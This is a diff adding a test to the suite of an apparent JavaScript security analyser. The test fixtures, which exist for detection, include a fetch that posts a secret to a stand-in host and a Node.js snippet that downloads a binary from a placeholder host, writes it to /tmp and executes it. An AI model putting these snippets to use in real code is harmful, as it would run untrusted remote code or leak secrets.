@@ -350,3 +350,15 @@ def test_a_global_object_given_a_secret_property_keeps_what_it_is(tmp_path: Path
         "window.fetch('https://c.example.invalid/u', { method: 'POST', body: window.k });\n",
     )
     assert [line for line, _ in chain(found, Kind.EGRESS)] == [2, 3]
+
+
+def test_a_response_piped_into_a_file_then_run_runs_the_download(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const https = require('https'), fs = require('fs'), { execFileSync } = require('child_process');\n"
+        "https.get('https://z.example.invalid/bin', (r) => {\n"
+        "  const f = fs.createWriteStream('/tmp/x'); r.pipe(f);\n"
+        "  f.on('finish', () => execFileSync('/tmp/x'));\n"
+        "});\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 4]
